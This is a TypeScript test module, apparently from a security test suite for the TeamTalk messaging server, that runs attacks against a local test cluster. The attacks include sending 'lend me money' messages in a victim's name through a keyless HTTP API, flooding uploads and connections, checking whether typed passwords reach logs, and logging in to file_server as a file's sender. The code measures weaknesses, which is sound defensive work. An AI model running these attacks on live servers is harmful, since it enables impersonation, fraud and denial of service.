import type { TestCluster } from '@teamtalk/cluster';
import { loginFrame, RawConnection } from '@teamtalk/local-stack';
import { ClientType, Commands, encodePdu, IM } from '@teamtalk/protocol';
import type { Attack } from './attack.js';
import { Attacker, attackerAddress, post } from './attacker.js';

const mb = 1_000_000;

/** Uploads a megabyte after the other. @returns how many were taken */
async function uploadMany(cluster: TestCluster, count: number, localAddress: string): Promise<number> {
  const body = Buffer.concat([
    Buffer.from('--b\r\nContent-Disposition: form-data; name="f"; filename="a.jpg"\r\n\r\n'),
    Buffer.alloc(mb, 1),
    Buffer.from('\r\n--b--\r\n'),
  ]);
  let taken = 0;
  for (let i = 0; i < count; i++) {
    const headers = { 'content-type': 'multipart/form-data; boundary=b' };
    const { status } = await post(cluster.url('msfs'), body, headers, localAddress);
    if (status === 200) taken++;
  }
  return taken;
}

/** Attacks on what was open by default, and on what was written into logs (rows 6 and 12). */
export const openByDefault: readonly Attack[] = [
  {
    name: 'open-api',
    what: 'messages in a user’s name by the HTTP API, without a key, from another address (row 6)',
    full: 100,
    small: 20,
    // The default, with all of loopback but one address being other machines.
    envOf: () => ({ http_msg_server: { HTTP_AUTH: '', HTTP_KEYLESS_ADDRESSES: '127.0.0.1' } }),
    run: async (cluster, count) => {
      const { victim, friend } = await cluster.addUsers(['victim', 'friend']);
      const url = `${cluster.url('http_msg_server')}/query/SendP2PMessage`;
      const body = JSON.stringify({ from_user_id: victim, session_id: friend, msg: 'lend me money' });
      let sent = 0;
      for (let i = 0; i < count; i++) {
        const { text } = await post(url, body, { 'content-type': 'application/json' });
        if (text.includes('"error_code":0')) sent++;
      }
      return { sent };
    },
  },
  {
    name: 'open-uploads',
    what: 'images of 1 MB from an address at which nobody is logged in (row 6)',
    full: 500,
    small: 50,
    envOf: () => ({}),
    run: async (cluster, count) => {
      await cluster.logInRaw('witness');
      return { 'stored, MB': await uploadMany(cluster, count, attackerAddress) };
    },
  },
  {
    name: 'upload-quota',
    what: 'images of 1 MB from the address of one user, whose quota is a fifth of it (row 6)',
    full: 500,
    small: 50,
    envOf: (count) => ({ msfs: { UPLOAD_DAY_BYTES: String((count / 5) * 1.01 * mb) } }),
    run: async (cluster, count) => {
      await cluster.logInRaw('witness');
      return { 'stored, MB': await uploadMany(cluster, count, '127.0.0.1') };
    },
  },
  {
    name: 'log-lines',
    what: 'connections that send no PDU: lines in the log of msg_server (row 12)',
    full: 10_000,
    small: 1_000,
    envOf: () => ({ msg_server: { LOG_LEVEL: 'warn' } }),
    run: async (cluster, count, logged) => {
      const attacker = new Attacker();
      // A length below that of the header.
      await attacker.flood(cluster.port('msg_server', 0, 'client'), count, () => Buffer.alloc(16));
      attacker.close();
      return {
        lines: (await logged()).split('\n').filter((line) => line.includes('framing invalid')).length,
      };
    },
  },
  {
    name: 'log-names',
    what: 'passwords typed into the field of the name: those that the log has (row 12)',
    full: 20,
    small: 20,
    envOf: () => ({ db_proxy_server: { LOG_LEVEL: 'info' } }),
    run: async (cluster, count, logged) => {
      const typed = Array.from({ length: count }, (_, i) => `my-password-${i}`);
      for (const name of typed) {
        const connection = await cluster.connectRaw();
        await connection.send(loginFrame({ name, password: 'x', clientType: ClientType.WINDOWS }));
        await connection.receive(Commands.LoginResUserlogin);
        connection.close();
      }
      const log = await logged();
      return { 'in the log': typed.filter((name) => log.includes(`"${name}"`)).length };
    },
  },
  {
    name: 'file-roles',
    what: 'the receiver of a file logs in to file_server as its sender (row 12)',
    full: 10,
    small: 10,
    envOf: () => ({}),
    run: async (cluster, count) => {
      const { alice, bob } = await cluster.addUsers(['alice', 'bob']);
      const [sender, receiver] = [await cluster.logInRaw('alice'), await cluster.logInRaw('bob')];
      let letIn = 0;
      for (let i = 0; i < count; i++) {
        const file = { fileName: 'a.txt', fileSize: 100_000 };
        const transMode = IM.BaseDefine.TransferFileType.FILE_TYPE_OFFLINE;
        const ask = { fromUserId: alice, toUserId: bob, ...file, transMode };
        await sender.send(encodePdu(Commands.FileRequest, ask, 1));
        const { taskId } = await receiver.receive(Commands.FileNotify);
        const attack = await RawConnection.open(cluster.port('file_server', 0, 'client'));
        const fileRole = IM.BaseDefine.ClientFileRole.CLIENT_OFFLINE_UPLOAD;
        await attack.send(encodePdu(Commands.FileLoginReq, { userId: alice, taskId, fileRole }, 1));
        if ((await attack.receive(Commands.FileLoginRes)).resultCode === 0) letIn++;
        attack.close();
      }
      return { 'let in': letIn };
    },
  },
];
